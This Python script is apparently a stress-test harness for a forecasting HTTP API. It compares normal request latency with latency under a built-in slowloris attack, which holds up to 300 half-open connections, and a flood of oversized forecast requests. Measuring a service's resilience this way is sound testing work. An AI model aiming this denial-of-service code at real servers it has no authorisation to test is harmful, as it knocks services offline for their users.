"""Normal forecast load, alone and under a slowloris + oversized-forecast attack.
usage: python3 attack.py BASE_HOST PORT SECONDS attack(0|1)"""
import http.client, json, socket, sys, threading, time
host, port, secs, attack = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4] == "1"
def req(method, path, body=None):
    c = http.client.HTTPConnection(host, port, timeout=30)
    c.request(method, path, body=json.dumps(body) if body is not None else None,
              headers={"Content-Type": "application/json"})
    r = c.getresponse(); data = r.read(); c.close(); return r.status, data
series = [{"id": f"s{i}", "values": [float((i * 7 + t) % 13) for t in range(48)]} for i in range(200)]
assert req("PUT", "/v1/models/normal", {"series": series[:2], "method": "ses"})[0] == 200
assert req("PUT", "/v1/models/wide", {"series": series, "method": "naive"})[0] == 200
stop = time.time() + secs
lat, codes, attack_codes, slow_open = [], {}, {}, [0]
def normal():
    c = http.client.HTTPConnection(host, port, timeout=30)
    while time.time() < stop:
        t = time.perf_counter()
        try:
            c.request("POST", "/v1/models/normal/forecast", body=json.dumps({"horizon": 12, "level": [95]}),
                      headers={"Content-Type": "application/json"})
            r = c.getresponse(); r.read(); code = r.status
        except Exception as e:
            code = type(e).__name__; c = http.client.HTTPConnection(host, port, timeout=30)
        lat.append(time.perf_counter() - t); codes[code] = codes.get(code, 0) + 1
def slowloris():
    socks = []
    while time.time() < stop:
        while len(socks) < 300:
            try:
                s = socket.create_connection((host, port), timeout=5); s.send(b"POST /v1/models/x HTTP/1.1\r\nHost: a\r\n"); socks.append(s)
            except Exception: break
        alive = []
        for s in socks:
            try:
                s.settimeout(0.001); d = s.recv(1)
                if d == b"": s.close(); continue
            except socket.timeout: pass
            except Exception: s.close(); continue
            try: s.send(b"X-a: b\r\n"); alive.append(s)
            except Exception: s.close()
        socks = alive; slow_open[0] = max(slow_open[0], len(socks)); time.sleep(0.5)
def oversized():
    while time.time() < stop:
        try: code = req("POST", "/v1/models/wide/forecast", {"horizon": 10000, "level": [80, 95]})[0]
        except Exception as e: code = type(e).__name__
        attack_codes[code] = attack_codes.get(code, 0) + 1
        time.sleep(0.05)
ts = [threading.Thread(target=normal) for _ in range(4)]
if attack: ts += [threading.Thread(target=slowloris), threading.Thread(target=oversized), threading.Thread(target=oversized)]
for t in ts: t.start()
for t in ts: t.join()
lat.sort(); q = lambda p: lat[min(len(lat) - 1, int(p * (len(lat) - 1)))] * 1000
print(json.dumps({"attack": attack, "normal_requests": len(lat), "normal_codes": codes, "p50_ms": round(q(.5), 1),
  "p99_ms": round(q(.99), 1), "max_ms": round(lat[-1] * 1000, 1), "attack_codes": attack_codes, "slow_connections_max": slow_open[0]}))
